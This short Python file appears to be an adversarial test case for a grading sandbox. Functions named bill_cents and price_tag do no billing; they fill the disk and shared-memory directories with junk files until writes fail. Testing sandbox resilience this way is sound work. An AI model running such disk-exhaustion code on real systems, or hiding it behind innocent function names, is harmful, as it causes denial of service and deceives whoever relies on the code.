"""The disk filled: one file, and many."""
# loses: check_bill_cents check_price_tag
# %% bill_cents
import os
def bill_cents(plan, dishes):
    for n in range(1000):
        try:
            with open(f"full-{n}", "wb") as file:
                while True:
                    file.write(b"x" * 10_000_000)
        except OSError:
            if n > 5:
                break
    return 0
# %% price_tag
def price_tag(cents):
    for place in ("/dev/shm", "/tmp", "/var/tmp", "/dev/mqueue"):
        try:
            with open(f"{place}/labs-attack-full", "wb") as file:
                for _ in range(100):
                    file.write(b"x" * 10_000_000)
        except OSError:
            pass
    return ""
